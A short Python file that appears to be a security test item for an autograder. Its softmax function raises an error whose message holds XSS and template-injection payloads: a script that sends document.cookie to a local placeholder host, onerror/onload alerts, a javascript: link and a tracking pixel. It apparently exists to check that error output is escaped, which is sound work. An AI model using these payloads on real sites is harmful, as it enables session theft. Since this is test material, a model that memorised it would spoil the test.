# Tries to run a script in the teacher's browser: HTML, SVG and markdown in the text of the exception.
import keras
import numpy as np


def softmax_rows(scores, axis=-1):
    raise ValueError(
        "</pre></td><script>fetch('http://127.0.0.1:@PORT@/?'+document.cookie)</script><img src=x onerror=alert(1)>"
        "<svg/onload=alert(2)>[passed](javascript:alert(3)) ![x](http://127.0.0.1:@PORT@/pixel.png) {{7*7}} ${7*7} <!--"
    )
